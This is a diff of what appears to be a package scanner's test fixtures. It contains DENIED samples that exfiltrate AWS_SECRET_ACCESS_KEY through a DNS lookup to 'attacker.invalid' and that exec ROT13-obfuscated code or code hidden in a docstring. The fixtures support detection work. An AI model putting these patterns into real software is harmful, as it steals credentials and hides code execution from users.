@@ -92,7 +92,8 @@ DENIED: dict[str, dict[str, str]] = {
     ),
     "secret-in-a-dns-name-by-format-on-import": init(
         "import os, socket\n"
-        "socket.gethostbyname('{}.x.attacker.invalid'.format(os.environ['AWS_SECRET_ACCESS_KEY']))\n"
+        "key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "socket.gethostbyname('{}.x.attacker.invalid'.format(key))\n"
     ),
     "secret-in-a-dns-name-by-percent-when-called": init(
         "import os, socket\n"
@@ -124,9 +125,7 @@ DENIED: dict[str, dict[str, str]] = {
         "    exec(S.translate(str.maketrans(L + U, L[13:] + L[:13] + U[13:] + U[:13])))\n"
         "run()\n"
     ),
-    "code-kept-as-the-module-docstring": init(
-        f'"""{HIDDEN_CODE.decode()}"""\nexec(__doc__)\n'
-    ),
+    "code-kept-as-the-module-docstring": init(f'"""{HIDDEN_CODE.decode()}"""\nexec(__doc__)\n'),
     # 4. A shipped program that downloads and runs code, started when a function is called.
     "shipped-data-file-run-by-bash-when-called": {
         "evpkg/__init__.py": (
@@ -340,7 +339,8 @@ ALLOWED: dict[str, dict[str, str]] = {
         "evpkg/__init__.py": (
             "import os, subprocess\n"
             "def run(*args):\n"
-            "    return subprocess.run(['sh', os.path.join(os.path.dirname(__file__), 'run.sh'), *args])\n"
+            "    script = os.path.join(os.path.dirname(__file__), 'run.sh')\n"
+            "    return subprocess.run(['sh', script, *args])\n"
         ),
         "evpkg/run.sh": '#!/bin/sh\nexec "$(dirname "$0")/bin/tool" "$@"\n',
     },
